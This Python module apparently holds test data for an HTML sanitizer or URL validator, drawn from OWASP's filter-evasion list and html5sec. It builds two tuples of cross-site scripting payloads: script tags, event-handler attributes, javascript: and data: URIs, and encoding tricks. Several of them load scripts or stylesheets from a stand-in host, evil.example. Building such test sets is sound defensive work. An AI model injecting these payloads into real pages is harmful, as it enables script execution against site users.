"""Ways to bring a script or a strange address into a page: after OWASP's list of filter evasions and html5sec."""

from __future__ import annotations

_RUN = "alert(1)"
_BY_EVENT = {
    "img src=x": "onerror", "svg": "onload", "svg/": "onload", "body": "onload", "body ": "onpageshow",
    "iframe": "onload", "iframe srcdoc=x": "onload", "input autofocus": "onfocus", "select autofocus": "onfocus",
    "textarea autofocus": "onfocus", "keygen autofocus": "onfocus", "video src=x": "onerror", "audio src=x": "onerror",
    "video><source": "onerror", "details open": "ontoggle", "marquee": "onstart", "object data=x": "onerror",
    "embed src=x": "onload", "link rel=stylesheet href=x": "onload", "style": "onload", "a href=#": "onclick",
    "p": "onmouseover", "div style=width:9999px": "onmousemove", "button": "onclick", "form": "onsubmit",
    "math": "onclick", "table background=x": "onload", "isindex": "onclick", "x": "onclick",
    "xss contenteditable": "onblur",
    "svg><animate attributeName=x": "onbegin", "svg><set attributeName=x": "onbegin", "meter": "onmouseover",
    "image src=x": "onerror", "track src=x": "onerror", "frameset": "onload",
    "blink": "onclick", "dialog open": "onclose",
}  # fmt: skip
_QUOTES = ("{event}={run}", '{event}="{run}"', "{event}='{run}'")
_WHOLE = (
    "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<ScRiPt>alert(1)</sCrIpT>",
    "<script >alert(1)</script >",
    "<script\n>alert(1)</script>", "<script/x>alert(1)</script>", "<script src=//evil.example/x.js></script>",
    "<script src='data:text/javascript,alert(1)'></script>", "<script><!--alert(1)--></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1)//<</script>", "<script>alert(1)",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>", "'\"><script>alert(1)</script>", "<script>alert(1)</script foo>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<style>@import'//evil.example'</style>",
    "<style>*{background:url(javascript:alert(1))}</style>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<base href=//evil.example/>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java&#9;script:alert(1)'>x</a>", "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>", "<button formaction=javascript:alert(1)>x</button>",
    "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg/>'></svg>", "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<template><script>alert(1)</script></template>", "<xml><script>alert(1)</script></xml>",
    "<?php echo 1 ?><script>alert(1)</script>", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<img src=x:x onerror=alert(1)//", "<img src=`x`onerror=alert(1)>", "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=\"&#97;lert(1)\">", "<img src=x\x0bonerror=alert(1)>".replace("\x0b", "\t"),
    "<div style='background:url(javascript:alert(1))'>x</div>", "<div style=width:expression(alert(1))>x</div>",
    "<bgsound src=javascript:alert(1)>", "<br size=&{alert(1)}>", "<layer src=//evil.example/></layer>",
    "<isindex action=javascript:alert(1) type=image>", "<portal src=javascript:alert(1)></portal>",
)  # fmt: skip

MARKUP = (
    *_WHOLE,
    *(
        f"<{tag} {form.format(event=event, run=_RUN)}>x"
        for tag, event in _BY_EVENT.items() for form in _QUOTES
    ),
)  # fmt: skip
"""Each of these in a text that is shown."""

_SCHEMES = (
    "javascript",
    "vbscript",
    "data",
    "file",
    "blob",
    "ftp",
    "livescript",
    "mhtml",
    "about",
    "view-source",
    "x-y",
)
_HIDDEN = ("{}:alert(1)", "{}:alert(1)//https://stand.example/", " {}:alert(1)", "{}&#9;:alert(1)", "{}&#10;:alert(1)")

ADDRESSES = (
    *(hidden.format(scheme) for scheme in _SCHEMES for hidden in _HIDDEN),
    "JaVaScRiPt:alert(1)", "java&#9;script:alert(1)", "java&#10;script:alert(1)", "java&#13;script:alert(1)",
    "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "&#1;javascript:alert(1)".replace("&#1;", "&#127;"),
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,x", "https:javascript:alert(1)",
    "http:&#9;//stand.example/\"onclick=alert(1)", "https://user:secret@stand.example/", "https://stand.example@evil.example/",
    "https://stand.example/\"><script>alert(1)</script>".replace("<", "&lt;").replace(">", "&gt;"),
    "https://stand.example/' onmouseover='alert(1)", "https://&lt;script&gt;/", "//javascript:alert(1)", "https://[javascript]/",
)  # fmt: skip
"""Each of these where a link is expected, written as XML has it."""
